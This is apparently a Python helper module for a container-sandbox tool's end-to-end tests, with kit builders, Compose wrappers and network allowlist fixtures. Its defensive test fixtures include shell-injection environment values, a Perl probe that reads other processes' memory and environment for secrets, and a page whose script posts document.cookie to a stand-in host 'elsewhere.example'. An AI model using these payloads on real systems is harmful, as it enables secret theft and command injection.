"""Driving compiled sandboxes in the real engine: the kits the suite compiles, and a Compose
project handle that runs probes inside the agent container.

Everything a test creates is named from one per-session token (kit names, so image tags and
Compose project names too), so concurrent sessions on one engine never touch each other's things.
"""

from __future__ import annotations

import ipaddress
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.conftest import REPO

OUTSIDE_DIR = Path(__file__).resolve().parent / "outside"

#: Scans everything the agent's container can read for needles given reversed on stdin (so neither
#: the probe's command line nor its shell ever holds one): every other process's environment,
#: command line and readable memory (through /proc/PID/maps and /proc/PID/mem), and every file
#: outside /proc, /sys and /dev. Prints what it scanned, and where a needle was found.
MEMORY_AND_FILES_PROBE = r"""
use strict;
my @needles = map { chomp; scalar reverse $_ } grep { /\S/ } <STDIN>;
unless (@needles) { print "scanned nothing: no needles\n"; exit 0 }
my (%found, $processes, $regions, $bytes, $files);
sub look { my ($where, $data) = @_; for my $n (@needles) { $found{"$n\0$where"} = 1 if index($data, $n) >= 0 } }
sub slurp { my ($path, $max) = @_; open(my $fh, '<:raw', $path) or return ''; my $d = ''; read($fh, $d, $max); return $d }
for my $dir (glob '/proc/[0-9]*') {
  my ($pid) = $dir =~ m{(\d+)$}; next if $pid == $$;
  $processes++;
  look("environ of $pid", slurp("$dir/environ", 1 << 20));
  look("cmdline of $pid", slurp("$dir/cmdline", 1 << 20));
  open(my $maps, '<', "$dir/maps") or next; open(my $mem, '<:raw', "$dir/mem") or next;
  while (my $line = <$maps>) {
    my ($from, $to, $perm) = $line =~ /^([0-9a-f]+)-([0-9a-f]+) (\S+)/ or next;
    next unless $perm =~ /^r/ && $line !~ /\[vvar\]|\[vsyscall\]/;
    my $size = hex($to) - hex($from); next if $size > (1 << 28);
    sysseek($mem, hex($from), 0) or next; my $data = ''; my $got = sysread($mem, $data, $size);
    next unless $got; $regions++; $bytes += $got; look("memory of $pid", $data);
  }
}
my @todo = ('/');
while (defined(my $dir = shift @todo)) {
  opendir(my $dh, $dir) or next;
  for my $name (readdir $dh) {
    next if $name eq '.' || $name eq '..'; my $path = $dir eq '/' ? "/$name" : "$dir/$name";
    next if $path =~ m{^/(proc|sys|dev)$}; next if -l $path;
    if (-d _) { push @todo, $path } elsif (-f _ && -s _ < (1 << 26)) { $files++; look("file $path", slurp($path, 1 << 26)) }
  }
}
print "scanned processes=$processes regions=$regions bytes=$bytes files=$files\n";
for my $key (sort keys %found) { my ($n, $where) = split /\0/, $key; print "found needle#", (grep { $needles[$_] eq $n } 0..$#needles)[0], " in $where\n" }
"""

ALLOWED_ID, OTHER_ID = "allowed", "other"

#: Names the kit allows (all on port 8080 unless said otherwise) and what each resolves to.
WEB = "web.allowed.test"
GIT = "git.allowed.test"
WILD_OK = "a.wild.test"
WILD_DENIED = "denied.wild.test"
#: Two labels below the allowed `*.wild.test`: a one-label wildcard does not cover it.
WILD_DEEP = "b.a.wild.test"
BOTH = "both.test"
#: The host the proxy injects E2E_INJECT_TOKEN on (HTTPS on 8443 only), as the header INJECT_HEADER.
API = "api.allowed.test"
INJECT_HEADER = "x-e2e-key"
INJECT_PLACEHOLDER = "e2e-placeholder-not-the-key"
OTHER = "other.test"
#: The ssh git server of the ssh kit (allowed on port 22), and another name of the same server that the
#: kit does not allow: the proxy must refuse it though the server would answer.
SSH_HOST = "ssh.allowed.test"
SSH_UNLISTED = "ssh.unlisted.test"
#: Where the ssh server keeps the private copy of the e2e repository.
SSH_REPO_PATH = "/srv/private/repo.git"
#: Allowed names that the proxy's resolver maps to addresses it must refuse: private, loopback and
#: metadata, and one from each special-purpose block of IANA's registries that is not globally
#: reachable (benchmarking, documentation, the old 6to4 relay, reserved; 6to4, Teredo, local NAT64).
RESOLVES_TO_REFUSED = {
    "intranet.allowed.test": "10.1.2.3",
    "loopback.allowed.test": "127.0.0.1",
    "metadata.allowed.test": "169.254.169.254",
    "benchmark.allowed.test": "198.18.0.5",
    "testnet1.allowed.test": "192.0.2.5",
    "testnet2.allowed.test": "198.51.100.5",
    "testnet3.allowed.test": "203.0.113.5",
    "relay6to4.allowed.test": "192.88.99.5",
    "reserved.allowed.test": "240.0.0.5",
    "sixtofour.allowed.test": "2002:c000:205::1",
    "teredo.allowed.test": "2001:0:c000:205::1",
    "nat64local.allowed.test": "64:ff9b:1::a01:203",
}
#: An allowed name that resolves to the Docker host's own address on the outside network (a
#: public-looking address here): the proxy must not reach the machine it runs on.
HOST_SELF = "hostself.allowed.test"

#: Where the outside servers live: /28s of the two AS112 prefixes (RFC 7534, RFC 7535). The tests
#: need addresses that the proxy and the NetworkPolicy treat as public, or their refusal of
#: non-public ranges would have to be switched off to reach a test server, and that no real service
#: needs from a test machine. IANA's special-purpose registry marks these prefixes globally
#: reachable (so public), and AS112 is served locally by whoever wants to (RFC 7534), so shadowing
#: them on one machine is what they are for. A session takes one free /28 (see free_outside_subnet),
#: so 32 sessions (e2e suites and the Kubernetes pod test alike) share one engine without collisions.
OUTSIDE_POOLS = (ipaddress.IPv4Network("192.175.48.0/24"), ipaddress.IPv4Network("192.31.196.0/24"))
OUTSIDE_PREFIX = 28

README_MD = "# e2e repository\n"
REPO_AGENTS_MD = "Repository rules: keep tests green.\n"

#: env values that a shell, Compose, YAML, Jinja or a Dockerfile would take as syntax.
HOSTILE_ENV = {
    "E2E_SUBSHELL": "$(touch /tmp/e2e-pwned)",
    "E2E_BACKTICKS": "`touch /tmp/e2e-pwned`",
    "E2E_EXPANSION": "${HOME} $HOME $$ $1 ${E2E_RUN_TOKEN_FILE:-x}",
    "E2E_QUOTES": "it's \"quoted\" 'twice'",
    "E2E_BACKSLASHES": "a\\b\\\\c\\n\\",
    "E2E_NEWLINES": "first\nexport E2E_INJECTED=1\n\nlast\n",
    "E2E_SPACES": "  leading and trailing  \t",
    "E2E_UNICODE": "ünïcødé ✓ 😀 \u202e reversed \u2028 sep",
    "E2E_YAML": "--- \nkey: value\n- item\n&anchor *alias !tag",
    "E2E_TEMPLATES": "{{ p.name }} {% if true %}x{% endif %} ${{ github.token }}",
    "E2E_SEMICOLON": "; touch /tmp/e2e-pwned; # comment",
    "E2E_CARRIAGE": "line\r\nwith crlf\r",
    "E2E_EMPTY": "",
}

INSTRUCTIONS = (
    "Review the code; never push.\n"
    "Odd bytes stay as they are: `id` $(id) ${{ secrets.X }} {{ jinja }} 'single' \"double\" ✓\n"
)
SETTINGS_JSON = '{"telemetry": false, "quote": "it\'s"}\n'
README_TXT = "kit file placed at build time\n"

AGENT_SCRIPT = """#!/bin/sh
# The kit's agent command in the end-to-end suite: say who runs it and what ran before it.
echo "agent uid=$(id -u)" >> /tmp/e2e-order.log
cat /tmp/e2e-order.log
"""


#: Characters a YAML reader may take as line breaks even inside quotes: written as escapes.
_YAML_BREAKS = {"\u0085": "\\x85", "\u2028": "\\u2028", "\u2029": "\\u2029"}


@dataclass(frozen=True)
class Outside:
    """One /28 for the outside network: dynamic addresses from its lower half, servers in the upper."""

    subnet: ipaddress.IPv4Network

    @property
    def dynamic_range(self) -> str:
        return str(next(self.subnet.subnets(new_prefix=self.subnet.prefixlen + 1)))

    @property
    def gateway(self) -> str:
        return str(self.subnet[1])

    @property
    def allowed_ip(self) -> str:
        return str(self.subnet[-3])

    @property
    def other_ip(self) -> str:
        return str(self.subnet[-2])


def free_outside_subnet(used: list[ipaddress.IPv4Network], token: str) -> ipaddress.IPv4Network | None:
    """A /28 of OUTSIDE_POOLS that overlaps none of ``used``, starting at a place the token picks."""
    subnets = [s for pool in OUTSIDE_POOLS for s in pool.subnets(new_prefix=OUTSIDE_PREFIX)]
    start = int(token, 16) % len(subnets)
    for subnet in subnets[start:] + subnets[:start]:
        if not any(subnet.overlaps(u) for u in used):
            return subnet
    return None


#: The agent's application in the ports tests: two TCP servers answering HTTP (APP_TCP, forwarded byte for
#: byte, and APP_HTTP, which the net kit marks `http: true`) and a UDP echo, in perl (perl-base is in every
#: Debian image, so the kits need no package for it). It prints one line per connection or datagram, with
#: the peer's address, so a test sees who reached it. Its answers carry APP_POLICY_HEADERS: what a hostile
#: preview says to let its page reach other origins.
APP_TCP, APP_UDP, APP_HTTP = 8000, 8053, 8001
APP_POLICY_HEADERS = (
    ("Content-Security-Policy", "default-src * 'unsafe-inline'; connect-src *; form-action *"),
    ("Content-Security-Policy-Report-Only", "default-src *"),
    ("Access-Control-Allow-Origin", "*"),
    ("Access-Control-Allow-Credentials", "true"),
    ("Access-Control-Allow-Private-Network", "true"),
    ("Referrer-Policy", "unsafe-url"),
    ("Reporting-Endpoints", 'default="http://elsewhere.example/reports"'),
    ("Link", "<http://elsewhere.example/>; rel=preconnect"),
    ("X-Frame-Options", "ALLOWALL"),
    ("X-App", "agent-app"),
)
#: The page: it posts what it holds to another origin as soon as it loads.
APP_PAGE = (
    "<!doctype html><form id=f method=post action=http://elsewhere.example/form></form>"
    "<script>fetch('http://elsewhere.example/steal',{method:'POST',body:document.cookie});f.submit()</script>"
)
_APP_HEADER_LINES = ", ".join(f"q[{name}: {value}]" for name, value in APP_POLICY_HEADERS)
APP_PROGRAM = rf"""
use strict; use IO::Socket::INET; use Socket qw(sockaddr_in inet_ntoa);
$| = 1;
my @headers = ({_APP_HEADER_LINES});
my $page = q[{APP_PAGE}];
my $tcp = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => {APP_TCP}, Listen => 16, ReuseAddr => 1)
  or die "tcp: $!";
my $http = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => {APP_HTTP}, Listen => 16, ReuseAddr => 1)
  or die "http: $!";
my $udp = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => {APP_UDP}, Proto => "udp") or die "udp: $!";
print "app listening\n";
sub answer {{
  my ($conn, $kind) = @_;
  print "app $kind from ", $conn->peerhost, "\n";
  my $request = <$conn>;
  while (defined(my $line = <$conn>)) {{ last if $line =~ /^\r?\n$/; }}
  print $conn "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n", join("\r\n", @headers), "\r\n\r\n",
    "server=agent-app peer=", $conn->peerhost, "\n", $page, "\n";
  close $conn;
}}
if (fork() == 0) {{
  while (1) {{
    my $peer = $udp->recv(my $data, 512) or next;
    my ($port, $ip) = sockaddr_in($peer);
    print "app udp from ", inet_ntoa($ip), "\n";
    $udp->send("udp-app:$data", 0, $peer);
  }}
}}
if (fork() == 0) {{
  while (my $conn = $http->accept) {{ answer($conn, "http"); }}
}}
while (my $conn = $tcp->accept) {{ answer($conn, "tcp"); }}
"""
#: The second host address the net kit publishes the app's TCP port on (any 127/8 address is the host's).
SECOND_HOST_IP = "127.0.0.2"


@dataclass(frozen=True)
class PublishedPorts:
    """Host ports the net kit publishes: the app's TCP port on 127.0.0.1 (the default, unsaid) and on
    SECOND_HOST_IP, its UDP port on 127.0.0.1."""

    tcp: int
    tcp_second: int
    udp: int
    http: int  # the app's APP_HTTP port, `http: true`, on 127.0.0.1

    def kit_yaml(self) -> str:
        return (
            f"ports:\n  - {{container: {APP_TCP}, host: {self.tcp}}}\n"
            f"  - {{container: {APP_TCP}, host: {self.tcp_second}, host_ip: {SECOND_HOST_IP}}}\n"
            f"  - {{container: {APP_UDP}, host: {self.udp}, protocol: udp}}\n"
            f"  - {{container: {APP_HTTP}, host: {self.http}, http: true}}\n"
        )


def free_port(address: str, kind: socket.SocketKind) -> int:
    """A port nothing on this machine uses at this moment, on ``address``, for TCP or UDP."""
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.bind((address, 0))
        return int(sock.getsockname()[1])


@dataclass(frozen=True)
class GitRepo:
    served: Path  # the folder mounted into the server as /srv/git
    commit: str


def yaml_str(value: str) -> str:
    """A YAML double-quoted scalar (JSON's string syntax is a subset of it)."""
    text = json.dumps(value, ensure_ascii=False)
    for char, escape in _YAML_BREAKS.items():
        text = text.replace(char, escape)
    return text


#: The timeout of the kits whose project the whole run shares (the session-scoped net, ssh,
#: offline, gvisor and mount projects): their deadline container starts with the first agent run
#: and ends every later one (exit 137, or a run that cannot join its PID namespace) once timeout
#: and grace have passed, which a loaded machine's e2e run reached with 10m, and the offline
#: projects with 5m. The deadline itself is tested on a kit of its own (timeout_project,
#: test_verify).
SHARED_SESSION_TIMEOUT = "60m"


def net_kit(name: str, ca_file: str, host_port: int, published: PublishedPorts) -> str:
    """The allowlist kit: egress through the proxy, clone, secrets, startup, files, hostile env, ports.

    ``host_port`` is the port of the listeners on the Docker host (allowed for HOST_SELF)."""
    allow = [
        f"{WEB}:8080",
        f"{WEB}:8443",
        f"{API}:8443",
        f"{GIT}:8080",
        '"*.wild.test:8080"',
        f"{BOTH}:8080",
        *(f"{host}:8080" for host in RESOLVES_TO_REFUSED),
        f"{HOST_SELF}:{host_port}",
    ]
    env = "\n".join(f"  {key}: {yaml_str(value)}" for key, value in HOSTILE_ENV.items())
    return f"""apiVersion: sandkit/v1
kind: Kit
name: {name}
description: end-to-end kit with an egress allowlist
image:
  ca_certificates: [{ca_file}]
  packages:
    apt: [curl, iputils-ping]
install:
  - test -s /run/secrets/E2E_BUILD_TOKEN
  - sha256sum < /run/secrets/E2E_BUILD_TOKEN > /etc/e2e-build-token.sha256
startup:
  - 'echo "startup0 uid=$(id -u) user=$(id -un)" >> /tmp/e2e-order.log'
  - 'echo "startup1 uid=$(id -u)" >> /tmp/e2e-order.log'
env:
{env}
secrets:
  - name: E2E_RUN_TOKEN
  - name: E2E_OPTIONAL_TOKEN
    required: false
  - name: E2E_BUILD_TOKEN
    build: true
  - name: E2E_INJECT_TOKEN
    placeholder: {INJECT_PLACEHOLDER}
    inject:
      - host: {API}:8443
        header: {INJECT_HEADER}
        format: "Key {{value}}"
network:
  egress: allowlist
  allow: [{", ".join(allow)}]
  deny: ["{WILD_DENIED}:8080", "{BOTH}:8080"]
agent:
  command: [/opt/e2e/agent.sh]
  instructions: {yaml_str(INSTRUCTIONS)}
  instructions_file: AGENTS.md
files:
  - path: /opt/e2e/agent.sh
    content: {yaml_str(AGENT_SCRIPT)}
    mode: "0755"
  - path: /etc/e2e/readme.txt
    content: {yaml_str(README_TXT)}
  - path: /home/agent/.config/e2e/settings.json
    content: {yaml_str(SETTINGS_JSON)}
    mode: "0600"
workspace:
  mode: clone
  repo: https://{WEB}:8443/private/repo.git
  token: E2E_RUN_TOKEN
  ref: main
resources:
  cpus: 0.5
  memory: 256Mi
  pids: 64
  disk: 96Mi
  timeout: {SHARED_SESSION_TIMEOUT}
{published.kit_yaml()}"""


def ssh_kit(name: str, host_key: str) -> str:
    """A kit that clones a private repository over ssh through the proxy, trusting ``host_key`` (a
    public key line, `TYPE BASE64`) for SSH_HOST alone."""
    return f"""apiVersion: sandkit/v1
kind: Kit
name: {name}
description: end-to-end kit cloning over ssh
secrets:
  - name: E2E_SSH_KEY
network:
  egress: allowlist
  allow: [{SSH_HOST}:22]
agent:
  command: [sleep, "1"]
workspace:
  mode: clone
  repo: git@{SSH_HOST}:{SSH_REPO_PATH}
  ssh_key: E2E_SSH_KEY
  known_hosts: [{yaml_str(f"{SSH_HOST} {host_key}")}]
  ref: main
resources:
  cpus: 0.5
  memory: 256Mi
  pids: 64
  timeout: {SHARED_SESSION_TIMEOUT}
"""


def app_kit(name: str, *, egress: str, host_port: int, packages: tuple[str, ...] = ()) -> str:
    """A kit whose agent is the application, its TCP port published on 127.0.0.1:``host_port``; ``packages``
    from Debian."""
    image = f"image:\n  packages: {{apt: [{', '.join(packages)}]}}\n" if packages else ""
    return f"""{image}apiVersion: sandkit/v1
kind: Kit
name: {name}
description: end-to-end kit whose agent serves an application
network:
  egress: {egress}
agent:
  command: [perl, -e, {yaml_str(APP_PROGRAM)}]
workspace:
  mode: none
resources:
  cpus: 0.5
  memory: 128Mi
  pids: 64
  timeout: 10m
ports:
  - {{container: {APP_TCP}, host: {host_port}}}
"""


#: The instructions of the mount kits, which go to the agent's home, never into the host's folder.
MOUNT_INSTRUCTIONS = "Explain the code; the folder is the user's own.\n"


def offline_kit(
    name: str, *, runtime: str = "default", workspace: str = "none", timeout: str = SHARED_SESSION_TIMEOUT
) -> str:
    """A kit with no network at all; ``workspace`` mount modes mount ./ws beside the kit (with instructions
    placed at user level, found through $E2E_INSTRUCTIONS)."""
    mounted = workspace.startswith("mount")
    source = "\n  source: ./ws" if mounted else ""
    instructions = (
        f"\n  instructions: {yaml_str(MOUNT_INSTRUCTIONS)}\n  user_instructions_file: .agent/AGENTS.md"
        "\n  instructions_env: E2E_INSTRUCTIONS"
        if mounted
        else ""
    )
    return f"""apiVersion: sandkit/v1
kind: Kit
name: {name}
description: end-to-end kit without a network
network:
  egress: none
agent:
  command: [sleep, "1"]{instructions}
workspace:
  mode: {workspace}{source}
resources:
  cpus: 1
  memory: 128Mi
  pids: 64
  timeout: {timeout}
isolation:
  runtime: {runtime}
"""


def used_subnets() -> list[ipaddress.IPv4Network]:
    ids = run(["docker", "network", "ls", "-q"], check=True).stdout.split()
    # not checked: a network removed between `ls` and `inspect` only drops out of the answer
    answer = run(["docker", "network", "inspect", *ids]).stdout if ids else ""
    info = json.loads(answer) if answer.strip() else []
    used: list[ipaddress.IPv4Network] = []
    for network in info:
        for config in (network.get("IPAM") or {}).get("Config") or []:
            if "Subnet" in config and ":" not in config["Subnet"]:
                used.append(ipaddress.IPv4Network(config["Subnet"]))
    return used


def compile_kit(kit: Path, output: Path, env: dict[str, str] | None = None, targets: str = "docker,compose") -> Path:
    """`sandkit build` for ``targets`` (``env`` added to its environment)."""
    done = subprocess.run(
        [sys.executable, "-m", "sandkit", "build", str(kit), "-o", str(output), "-q", "--target", targets],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, **(env or {})},
    )
    assert done.returncode == 0, f"sandkit build failed:\n{done.stdout}{done.stderr}"
    folders = [p for p in output.iterdir() if p.is_dir()]
    assert len(folders) == 1, folders
    return folders[0]


@dataclass
class Result:
    returncode: int
    stdout: str
    stderr: str

    def __str__(self) -> str:
        return f"exit {self.returncode}\n--- stdout\n{self.stdout}\n--- stderr\n{self.stderr}"


@dataclass
class Project:
    """One Compose project of the suite: the generated compose.yaml plus the test's override."""

    name: str
    folder: Path  # the generated output, untouched
    files: list[Path]
    env_file: Path

    def compose_argv(self, *args: str, env_file: Path | None = None) -> list[str]:
        argv = ["docker", "compose", "--env-file", str(env_file or self.env_file)]
        for path in self.files:
            argv += ["-f", str(path)]
        return [*argv, "-p", self.name, *args]

    def compose(self, *args: str, timeout: float = 120, env_file: Path | None = None) -> Result:
        return run(self.compose_argv(*args, env_file=env_file), timeout=timeout)

    def agent(
        self,
        script: str | None = None,
        *,
        timeout: float = 60,
        env_file: Path | None = None,
        extra: tuple[str, ...] = (),
    ) -> Result:
        """Run the agent service through its entrypoint; with a script, as ``bash -c script``."""
        command = ("bash", "-c", script) if script is not None else ()
        return self.compose("run", "--rm", "-T", *extra, "agent", *command, timeout=timeout, env_file=env_file)

    @contextmanager
    def detached(self, suffix: str, *command: str, use_aliases: bool = False) -> Iterator[dict[str, Any]]:
        """Start the agent in the background (``compose run -d``) as ``NAME-suffix`` and yield the
        engine's record of it (``docker inspect``); the container is removed afterwards.

        ``use_aliases``: it answers to the name ``agent`` on its networks, as `up` would make it."""
        name = f"{self.name}-{suffix}"
        aliases = ("--use-aliases",) if use_aliases else ()
        started = self.compose("run", "-d", *aliases, "--name", name, "agent", *command)
        assert started.returncode == 0, started
        try:
            yield json.loads(run(["docker", "inspect", name], check=True).stdout)[0]
        finally:
            run(["docker", "rm", "-f", name])

    def logs(self, service: str) -> str:
        return self.compose("logs", "--no-color", "--no-log-prefix", service).stdout

    def addresses(self, service: str) -> list[str]:
        """The IPv4 addresses of the service's running container, one per network."""
        container = self.compose("ps", "-q", service).stdout.strip()
        inspect = json.loads(run(["docker", "inspect", container], check=True).stdout)
        return sorted(n["IPAddress"] for n in inspect[0]["NetworkSettings"]["Networks"].values())

    def log_with(self, service: str, text: str, seconds: float = 10) -> str:
        """The service's log once it holds ``text`` (or after ``seconds``): log lines may lag a reply."""
        deadline = time.monotonic() + seconds
        log = self.logs(service)
        while text not in log and time.monotonic() < deadline:
            time.sleep(0.1)  # `compose logs` itself takes longer than this
            log = self.logs(service)
        return log


def run(argv: list[str], *, timeout: float = 120, check: bool = False) -> Result:
    try:
        done = subprocess.run(argv, capture_output=True, timeout=timeout, check=False)
    except subprocess.TimeoutExpired as exc:
        raise AssertionError(f"{' '.join(argv[:8])}... did not finish within {timeout} s") from exc
    result = Result(done.returncode, done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"))
    if check and done.returncode != 0:
        raise AssertionError(f"{' '.join(argv)} failed: {result}")
    return result
